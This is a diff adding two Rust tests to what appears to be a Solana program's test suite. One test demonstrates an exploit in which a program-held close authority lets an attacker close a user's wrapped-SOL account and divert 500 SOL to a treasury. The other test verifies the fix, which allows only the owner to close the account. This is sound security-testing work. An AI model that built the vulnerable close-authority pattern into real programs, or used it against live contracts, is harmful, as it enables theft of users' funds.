@@ -0,0 +1,51 @@
+#[tokio::test]
+async fn test_close_user_wsol_account_exploit() {
+    println!("\n=== EXPLOIT: Program PDA Closes A User's WSOL Account ===\n");
+
+    let alice = Keypair::new();
+    let mallory = Keypair::new();
+    let config = create_config().await;
+    let deposit = open_deposit_account(&alice, &native_mint::ID).await.unwrap();
+    wrap_sol(&alice, &deposit, 500 * LAMPORTS_PER_SOL).await;
+    let treasury_before = get_balance(&config.treasury).await;
+
+    println!("1. Alice's deposit account holds 500 wrapped SOL");
+    let account = get_token_account(&deposit).await;
+    assert_eq!(account.close_authority, COption::Some(closer_pda()));
+
+    println!("\n2. Mallory calls reclaim_rent on it");
+    // Vulnerable: PDA is close authority; native accounts close with a balance
+    reclaim_rent(&config, &deposit, &mallory).await.unwrap();
+
+    assert!(get_account(&deposit).await.is_none());
+    assert!(get_balance(&config.treasury).await - treasury_before > 500 * LAMPORTS_PER_SOL);
+
+    println!("\n   EXPLOIT SUCCESSFUL!");
+    println!("   ✗ 500 SOL moved to the treasury without Alice's signature");
+}
+
+#[tokio::test]
+async fn test_owner_only_close() {
+    println!("\n=== SECURITY: Only the Owner Closes a User's Account ===\n");
+
+    let alice = Keypair::new();
+    let mallory = Keypair::new();
+    let deposit = open_deposit_account(&alice, &native_mint::ID).await.unwrap();
+    wrap_sol(&alice, &deposit, 500 * LAMPORTS_PER_SOL).await;
+
+    println!("1. Close authority is unset");
+    let account = get_token_account(&deposit).await;
+    assert_eq!(account.close_authority, COption::None);
+    println!("   ✓ Only Alice can close the account");
+
+    println!("\n2. Mallory tries to close it");
+    let result = close_deposit_account(&deposit, &mallory).await;
+    assert!(result.is_err());
+    println!("   ✓ Error: ConstraintTokenOwner");
+
+    println!("\n3. Alice closes it");
+    let before = get_balance(&alice.pubkey()).await;
+    close_deposit_account(&deposit, &alice).await.unwrap();
+    assert!(get_balance(&alice.pubkey()).await - before > 500 * LAMPORTS_PER_SOL);
+    println!("   ✓ 500 SOL plus rent returned to Alice");
+}